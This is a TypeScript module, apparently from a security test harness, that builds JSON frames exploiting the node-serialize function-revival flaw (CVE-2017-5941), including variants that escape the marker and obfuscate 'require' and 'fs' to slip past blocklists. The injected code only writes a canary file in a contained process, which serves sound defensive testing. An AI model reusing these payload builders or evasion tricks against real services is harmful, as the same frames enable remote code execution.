/**
 * Frames that carry code for a decoder that revives functions (CVE-2017-5941: node-serialize calls what it revives).
 * The code does one thing: it creates the trial's canary file. It runs in the contained victim process and nowhere else.
 */
import type { Tactic, Tools } from '../../src/model/attack.js';

const MARKER = '_$$ND_FUNC$$_';

export interface Payload extends Tactic {
  readonly place: 'member' | 'nick';
  /** Spells the marker with JSON escapes: the text differs, the decoded string does not. */
  readonly escaped: boolean;
  /** Avoids the words that a blocklist would look for. */
  readonly disguised: boolean;
}

const payload = (
  id: string,
  does: string,
  place: Payload['place'],
  escaped = false,
  disguised = false,
): Payload => ({
  id,
  does,
  place,
  escaped,
  disguised,
});

export const PAYLOADS: readonly Payload[] = [
  payload('extra-member', 'sends code in a member that the format does not have', 'member'),
  payload('nick', 'sends code in the place of a nick', 'nick'),
  payload('escaped-marker', 'sends code behind a marker spelt with JSON escapes', 'member', true),
  payload('disguised-source', 'sends code that names nothing suspicious', 'member', false, true),
];

/** A frame of this type with the payload in it. */
export function loaded(
  frame: { readonly header: object; readonly [member: string]: unknown },
  { place, escaped, disguised }: Payload,
  tools: Tools,
): string {
  const code = MARKER + tools.mint(disguised ? disguisedSource(tools) : plainSource(tools));
  const armed =
    place === 'nick'
      ? { ...frame, header: { ...frame.header, nick: code } }
      : { ...frame, options: { theme: code } };
  const text = JSON.stringify(armed);
  return escaped
    ? text.replace('_$$ND_FUNC$$_', () => '\\u005f\\u0024\\u0024ND\\u005fFUNC\\u0024\\u0024\\u005f')
    : text;
}

/** A message, as it stands inside all seals, with the payload beside its words: short, for it must fit into the bytes of another. */
export const loadedMessage = (text: string, { canary, mint }: Tools): Uint8Array =>
  Buffer.from(
    JSON.stringify({
      text,
      o: MARKER + mint(`require('fs').writeFileSync('${canary.file}','${canary.nonce}')`),
    }),
  );

const plainSource = ({ canary }: Tools): string =>
  `function(){require('fs').writeFileSync('${canary.file}','${canary.nonce}')}()`;

const disguisedSource = ({ canary }: Tools): string =>
  `function(){const g=globalThis,r=g['re'+'quire'];r('f'+'s')['write'+'FileSync']('${canary.file}','${canary.nonce}')}()`;
